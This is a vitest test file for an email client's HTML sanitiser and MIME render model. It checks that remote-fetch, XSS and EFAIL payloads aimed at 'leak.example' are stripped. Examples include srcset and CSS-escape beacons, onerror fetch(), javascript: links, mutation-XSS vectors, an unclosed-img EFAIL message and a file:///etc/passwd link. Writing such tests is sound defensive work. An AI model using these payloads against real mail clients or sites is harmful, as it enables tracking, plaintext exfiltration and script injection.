/**
 * Attacks on the render path: the sanitiser policy (html-sanitizer.ts) and the per-part
 * render model (render-model.ts), with DOMPurify bound to a jsdom window as in the tests'
 * stand-in for the background page. "Nothing fetches" is checked on the sanitised markup by
 * parsing it again and looking at every attribute and style that can carry a URL.
 */
import { describe, expect, it } from "vitest";
import { JSDOM } from "jsdom";
import createDOMPurify from "dompurify";
import { sanitizeHtml } from "../../src/core/render/html-sanitizer.js";
import { buildRenderModel } from "../../src/core/render/render-model.js";
import { parseMime } from "../../src/core/mime/index.js";

const window = new JSDOM("").window;
const purify = createDOMPurify(window as unknown as Parameters<typeof createDOMPurify>[0]);
const LEAK = "http://leak.example";
const PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";

const clean = (html: string, cid?: (id: string) => string | undefined) => sanitizeHtml(html, purify, cid);

/** Every URL-ish value left in the sanitised markup that is not data: (links excepted). */
function fetchables(html: string): string[] {
  const doc = new window.DOMParser().parseFromString(`<body>${html}</body>`, "text/html");
  const out: string[] = [];
  for (const el of Array.from(doc.body.querySelectorAll("*"))) {
    for (const a of Array.from(el.attributes)) {
      const v = a.value.trim();
      if (el.localName === "a" && a.name === "href") {
        if (/^\s*javascript:/i.test(v)) out.push(`a[href]=${v}`);
        continue; // http(s) links need a click
      }
      if (a.name === "style" && /url|@import|image-set|\\/i.test(v)) out.push(`${el.localName}[style]=${v}`);
      if (/^(https?:|\/\/|ftp:|file:|cid:|blob:|javascript:)/i.test(v) || /leak\.example/.test(v)) out.push(`${el.localName}[${a.name}]=${v}`);
    }
    if (["style", "link", "meta", "base", "iframe", "frame", "object", "embed", "form", "script", "video", "audio", "source", "picture", "input"].includes(el.localName)) {
      out.push(`<${el.localName}>`);
    }
  }
  return out;
}

describe("html sanitiser: remote references", () => {
  const cases: Array<[string, string]> = [
    ["img src", `<img src="${LEAK}/a.png">`],
    ["img src protocol-relative", `<img src="//leak.example/a.png">`],
    ["img srcset", `<img srcset="${LEAK}/1x.png 1x, ${LEAK}/2x.png 2x">`],
    ["picture/source srcset", `<picture><source srcset="${LEAK}/p.png"><img src="${LEAK}/q.png"></picture>`],
    ["body/table/td background", `<table background="${LEAK}/t.png"><tr><td background="${LEAK}/td.png">x</td></tr></table>`],
    ["style element @import", `<style>@import url(${LEAK}/i.css);</style><p>x</p>`],
    ["style element @font-face", `<style>@font-face{font-family:X;src:url(${LEAK}/f.woff)}</style>`],
    ["inline style url()", `<div style="background-image:url('${LEAK}/bg.png')">x</div>`],
    ["inline style url with spaces", `<div style="background: url  ( ${LEAK}/bg2.png )">x</div>`],
    ["inline style CSS escape \\75rl", `<div style="background:\\75 rl(${LEAK}/esc.png)">x</div>`],
    ["inline style image-set", `<div style="background-image:image-set('${LEAK}/is.png' 1x)">x</div>`],
    ["inline style @import", `<div style="@import '${LEAK}/x.css'">x</div>`],
    ["link stylesheet", `<link rel="stylesheet" href="${LEAK}/l.css">`],
    ["link preload", `<link rel="preload" as="image" href="${LEAK}/pre.png">`],
    ["meta refresh", `<meta http-equiv="refresh" content="0;url=${LEAK}/r">`],
    ["base href", `<base href="${LEAK}/"><img src="rel.png">`],
    ["iframe", `<iframe src="${LEAK}/f.html"></iframe>`],
    ["iframe srcdoc", `<iframe srcdoc="<img src='${LEAK}/sd.png'>"></iframe>`],
    ["object data", `<object data="${LEAK}/o.swf"></object>`],
    ["embed", `<embed src="${LEAK}/e.swf">`],
    ["video poster/src", `<video poster="${LEAK}/p.png" src="${LEAK}/v.mp4"></video>`],
    ["audio", `<audio src="${LEAK}/a.mp3"></audio>`],
    ["form action", `<form action="${LEAK}/form"><input type="image" src="${LEAK}/in.png"><button formaction="${LEAK}/fa">go</button></form>`],
    ["svg image href", `<svg><image href="${LEAK}/s.png"></image></svg>`],
    ["svg image xlink:href", `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${LEAK}/x.png"></image></svg>`],
    ["svg use", `<svg><use href="${LEAK}/u.svg#a"></use></svg>`],
    ["svg style attribute", `<svg><rect style="fill:url(${LEAK}/fill.svg#g)"></rect></svg>`],
    ["svg feImage", `<svg><filter><feImage href="${LEAK}/fe.png"></feImage></filter></svg>`],
    ["a ping", `<a href="https://example.org/" ping="${LEAK}/ping">x</a>`],
    ["img lowsrc/dynsrc", `<img lowsrc="${LEAK}/l.png" dynsrc="${LEAK}/d.avi">`],
    ["script", `<script src="${LEAK}/s.js"></script><p>x</p>`],
    ["event handler fetch", `<img src="data:image/png;base64,${PIXEL}" onerror="fetch('${LEAK}/js')">`],
    ["javascript: link", `<a href="javascript:fetch('${LEAK}/j')">x</a>`],
    ["data:text/html src", `<img src="data:text/html,<img src=${LEAK}/dh>">`],
    ["data:image/svg+xml src", `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${LEAK}/ds'/></svg>">`],
    ["noscript mutation", `<noscript><p title="</noscript><img src=${LEAK}/ns.png>"></noscript>`],
    ["math mutation", `<math><mtext><table><mglyph><style><img src=${LEAK}/m.png>`],
  ];
  it("the detector itself sees every case before sanitising (control)", () => {
    for (const [name, html] of cases) expect(fetchables(html), name).not.toEqual([]);
  });

  for (const [name, html] of cases) {
    it(`${name}: nothing that fetches survives`, () => {
      const out = clean(html);
      expect(fetchables(out), out).toEqual([]);
    });
  }

  it("keeps text and harmless formatting", () => {
    const out = clean(`<p style="color: red; font-weight: bold">Hello <b>world</b> <a href="https://example.org/x">link</a></p>`);
    expect(out).toContain("Hello <b>world</b>");
    expect(out).toContain('style="color: red; font-weight: bold"');
    expect(out).toMatch(/<a href="https:\/\/example\.org\/x"[^>]*rel="noopener noreferrer"/);
  });

  it("keeps data: images (png) and drops data: of other types", () => {
    expect(clean(`<img src="data:image/png;base64,${PIXEL}">`)).toContain(`data:image/png;base64,${PIXEL}`);
    expect(clean(`<img src="data:image/svg+xml;base64,PHN2Zz4=">`)).not.toContain("data:");
  });

  it("a mailto link stays, other link schemes go", () => {
    expect(clean(`<a href="mailto:bob@example.org">m</a>`)).toContain("mailto:bob@example.org");
    expect(clean(`<a href="file:///etc/passwd">f</a>`)).not.toContain("file:");
  });
});

describe("html sanitiser: cid: references", () => {
  const resolve = (id: string) => (id === "logo@x" ? `data:image/png;base64,${PIXEL}` : undefined);

  it("a cid: that names an image part becomes its data: URL", () => {
    const out = clean(`<img src="cid:logo@x">`, resolve);
    expect(out).toContain(`src="data:image/png;base64,${PIXEL}"`);
    expect(out).not.toContain("cid:");
  });

  it("an unresolved cid: is dropped, not left for the pane to resolve", () => {
    expect(clean(`<img src="cid:other@x">`, resolve)).not.toMatch(/src=/);
  });

  it("a resolver answer that is not an image data: URL is refused", () => {
    const out = clean(`<img src="cid:evil@x">`, () => `${LEAK}/cid.png`);
    expect(fetchables(out)).toEqual([]);
  });

  it("cid: in background or srcset is not resolved into a fetch", () => {
    const out = clean(`<td background="cid:logo@x">x</td><img srcset="cid:logo@x 1x">`, resolve);
    expect(out).not.toContain("cid:");
    expect(out).not.toContain("background=");
    expect(out).not.toContain("srcset");
  });
});

const crlf = (s: string) => new TextEncoder().encode(s.replace(/\r?\n/g, "\r\n"));

describe("render model: each part on its own (EFAIL)", () => {
  const efail = crlf(
    `From: a@example.org\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="B"\n\n` +
      `--B\nContent-Type: text/html\n\n<html><body>Hi <img src="${LEAK}/?\n` +
      `--B\nContent-Type: text/plain\n\nSECRET-PLAINTEXT\n` +
      `--B\nContent-Type: text/html\n\n"> bye</body></html>\n--B--\n`,
  );

  it("an unclosed <img src=\"…? in one part cannot swallow the next part", () => {
    const model = buildRenderModel(parseMime(efail), purify);
    expect(model.blocks.map((b) => b.kind)).toEqual(["html", "text", "html"]);
    for (const b of model.blocks) {
      if (b.kind === "html") {
        expect(b.html).not.toContain("SECRET-PLAINTEXT");
        expect(fetchables(b.html)).toEqual([]);
      }
    }
    expect(model.blocks[1]).toMatchObject({ kind: "text", text: expect.stringContaining("SECRET-PLAINTEXT") });
  });

  it("a nested encrypted part is listed as an attachment, never rendered", () => {
    const msg = crlf(
      `From: a@example.org\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="B"\n\n` +
        `--B\nContent-Type: text/html\n\n<img src="${LEAK}/?\n` +
        `--B\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="E"\n\n` +
        `--E\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--E\nContent-Type: application/octet-stream\n\n-----BEGIN PGP MESSAGE-----\nxx\n-----END PGP MESSAGE-----\n--E--\n` +
        `--B\nContent-Type: text/html\n\n">\n--B--\n`,
    );
    const model = buildRenderModel(parseMime(msg), purify);
    expect(model.blocks.every((b) => b.kind === "html")).toBe(true);
    expect(model.attachments.map((a) => a.contentType)).toEqual(["multipart/encrypted"]);
    expect(model.blocks.map((b) => (b.kind === "html" ? fetchables(b.html) : [])).flat()).toEqual([]);
  });

  it("text parts are never interpreted as HTML", () => {
    const msg = crlf(`From: a@example.org\nContent-Type: text/plain\n\n<img src="${LEAK}/t.png"> <script>x</script>\n`);
    const model = buildRenderModel(parseMime(msg), purify);
    expect(model.blocks).toEqual([{ kind: "text", path: "", text: expect.stringContaining(`<img src="${LEAK}/t.png">`) }]);
  });

  it("multipart/related: cid: images resolve to data: and are not listed again", () => {
    const msg = crlf(
      `From: a@example.org\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary="R"\n\n` +
        `--R\nContent-Type: text/html\n\n<p>logo <img src="cid:logo@x"> <img src="cid:nope@x"></p>\n` +
        `--R\nContent-Type: image/png\nContent-ID: <logo@x>\nContent-Transfer-Encoding: base64\n\n${PIXEL}\n--R--\n`,
    );
    const model = buildRenderModel(parseMime(msg), purify);
    const html = model.blocks[0]!.kind === "html" ? model.blocks[0]!.html : "";
    expect(html).toContain("data:image/png;base64,");
    expect(html).not.toContain("cid:");
    expect(model.attachments).toEqual([]);
  });

  it("without a sanitiser, HTML is listed as an attachment, not shown raw", () => {
    const msg = crlf(`From: a@example.org\nContent-Type: text/html\n\n<img src="${LEAK}/x">\n`);
    const model = buildRenderModel(parseMime(msg), null);
    expect(model.blocks).toEqual([]);
    expect(model.attachments).toHaveLength(1);
  });
});
